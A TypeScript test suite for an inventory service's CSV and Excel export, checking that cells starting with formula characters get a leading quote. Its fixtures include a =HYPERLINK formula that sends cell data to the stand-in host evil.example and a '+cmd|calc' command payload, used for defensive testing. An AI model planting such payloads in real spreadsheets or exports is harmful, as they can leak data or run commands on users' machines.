import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { bearer } from '@platform/testing';
import { createTestInventory } from '../test-support';

/**
 * CSV injection (CWE-1236, issue #23): a CSV export writes a cell that would begin with = + - @ tab or
 * CR with a `'` before it, by PostgreSQL (COPY) and by Node alike; typed numbers stay numbers (`-5`);
 * Excel exports hold the text as it is (a text cell is never a formula there).
 * docs/decisions/security.md, "CSV injection".
 */

const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  const stream = res as unknown as NodeJS.ReadableStream;
  stream.on('data', (c: Buffer) => chunks.push(c));
  stream.on('end', () => cb(null, Buffer.concat(chunks)));
};

const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('inventory cloud-service export: formula injection', () => {
  let t: Awaited<ReturnType<typeof createTestInventory>>;
  let owner: string;

  const call = (verb: string, body: object) => request(t.app).post(`/inventory/v1/cloud-service/${verb}`).set('Authorization', owner).send(body);
  const create = async (body: object) => {
    const res = await call('create', { provider: 'aws', cloud_service_group: 'EC2', cloud_service_type: 'Instance', data: {}, ...body });
    expect(res.status).toBe(200);
    return res.body as { cloud_service_id: string };
  };
  const exportFile = async (body: object) => {
    const res = await call('export', body);
    expect(res.status).toBe(200);
    const file = await request(t.app).get(new URL(res.body.download_url).pathname).buffer(true).parse(binary);
    expect(file.status).toBe(200);
    return file.body as Buffer;
  };
  const search = (fields: unknown[], filter: object[] = []) => ({
    name: 'Cloud services',
    query_type: 'SEARCH',
    search_query: { fields, filter, sort: [{ key: 'name' }] },
  });
  /** The project field sends every row through Node (see export-csv.spec.ts). */
  const PROJECT = { key: 'project_id', name: 'Project', reference: { resource_type: 'identity.Project' } };

  beforeAll(async () => {
    t = await createTestInventory();
    owner = await bearer({ domainId: 'd1', workspaceId: 'ws-1', roleType: 'WORKSPACE_OWNER', userId: 'owner' });
    await create({ name: EVIL_NAME, data: { note: '+cmd|calc' }, tags: { kind: 'evil' } });
    for (const [i, c] of TRIGGERS.entries()) {
      await create({ name: `${c}t${i}`, data: { note: `${c}note`, list: [`${c}a`, 'b'] }, tags: { kind: 'trigger' } });
    }
    // Numbers: a typed number is written as it is, a string that looks like one is text.
    await create({ name: 'numbers', instance_size: -5, data: { n: -5, f: -0.25, s: '-5', plus: '+5' }, tags: { kind: 'number' } });
  });
  afterAll(() => t.close());

  it('writes the issue\'s example with a leading quote, quoted as RFC 4180 requires (PostgreSQL and Node alike)', async () => {
    const fields = ['name', 'data.note'];
    const option = search(fields, [{ k: 'tags.kind', v: 'evil', o: 'eq' }]);
    const expected = `name,data.note\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd|calc\r\n`;
    expect((await exportFile({ file_format: 'CSV', options: [option] })).toString('utf8')).toBe(expected);
    const byNode = (await exportFile({ file_format: 'CSV', options: [search([...fields, PROJECT], [{ k: 'tags.kind', v: 'evil', o: 'eq' }])] })).toString('utf8');
    expect(byNode).toBe(`name,data.note,Project\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd|calc,\r\n`);
    // parsed back, the cell is the text with the quote before it
    expect(parse(expected)).toEqual([['name', 'data.note'], [`'${EVIL_NAME}`, "'+cmd|calc"]]);
  });

  it.each(TRIGGERS.map((c, i) => [JSON.stringify(c), c, i] as const))('neutralises a cell beginning with %s in every kind of field, both ways', async (_n, c, i) => {
    const filter = [{ k: 'name', v: `${c}t${i}`, o: 'eq' }];
    const fields = ['name', 'data.note', 'data.list', { key: 'data.note', name: 'Noted', options: { default: 'x' } }];
    const sql = await exportFile({ file_format: 'CSV', options: [search(fields, filter)] });
    const node = await exportFile({ file_format: 'CSV', options: [search([...fields, PROJECT], filter)] });
    const rows: string[][] = parse(sql);
    expect(rows[1]).toEqual([`'${c}t${i}`, `'${c}note`, `'${c}a\nb`, `'${c}note`]);
    expect(node.toString('utf8')).toBe(sql.toString('utf8').replace(`Noted\r\n`, `Noted,Project\r\n`).replace(/\r\n$/, ',\r\n'));
  });

  it('leaves typed numbers unprefixed (-5 stays a number) and prefixes text that begins like one', async () => {
    const fields = ['instance_size', 'data.n', 'data.f', 'data.s', 'data.plus', { key: 'data.n', name: 'n GB', options: { postfix: ' GB' } }];
    const filter = [{ k: 'tags.kind', v: 'number', o: 'eq' }];
    const sql = (await exportFile({ file_format: 'CSV', options: [search(fields, filter)] })).toString('utf8');
    expect(sql.split('\r\n')[1]).toBe(`-5,-5,-0.25,'-5,'+5,'-5 GB`);
    const node = (await exportFile({ file_format: 'CSV', options: [search([...fields, PROJECT], filter)] })).toString('utf8');
    expect(node.split('\r\n')[1]).toBe(`-5,-5,-0.25,'-5,'+5,'-5 GB,`);
    // ANALYZE sheets: group keys are text, sums are numbers
    const analyze = {
      name: 'By name',
      query_type: 'ANALYZE',
      analyze_query: { group_by: ['name'], fields: { size: { key: 'instance_size', operator: 'sum' } }, filter: [{ k: 'tags.kind', v: ['number', 'evil'], o: 'in' }], sort: [{ key: 'name' }] },
    };
    const rows = (await exportFile({ file_format: 'CSV', options: [analyze] })).toString('utf8').split('\r\n');
    expect(rows.slice(0, 3)).toEqual(['name,size', `"'${EVIL_NAME.replace(/"/g, '""')}",0`, 'numbers,-5']);
  });

  it('neutralises every CSV file of a ZIP (several options) too', async () => {
    const zipped = await exportFile({ file_format: 'CSV', options: [search(['name'], [{ k: 'tags.kind', v: 'evil', o: 'eq' }]), search(['data.note'], [{ k: 'tags.kind', v: 'evil', o: 'eq' }])] });
    const zip = await JSZip.loadAsync(zipped);
    const files = Object.keys(zip.files);
    expect(parse(await zip.file(files[0])!.async('string'))).toEqual([['name'], [`'${EVIL_NAME}`]]);
    expect(parse(await zip.file(files[1])!.async('string'))).toEqual([['data.note'], ["'+cmd|calc"]]);
  });

  it('leaves the Excel export as it was: the text as it is, in text cells (never formulas)', async () => {
    const file = await exportFile({ options: [search(['name', 'data.note', 'instance_size', 'data.n'], [{ k: 'tags.kind', v: ['evil', 'number'], o: 'in' }])] });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0];
    const cells = [2, 3].map((r) => [1, 2, 3, 4].map((c) => sheet.getRow(r).getCell(c)));
    expect(cells.map((r) => r.map((c) => c.value))).toEqual([
      [EVIL_NAME, '+cmd|calc', '0', null],
      ['numbers', null, '-5', '-5'],
    ]);
    for (const c of cells.flat()) expect(c.type === ExcelJS.ValueType.String || c.type === ExcelJS.ValueType.Null).toBe(true);
  });
});
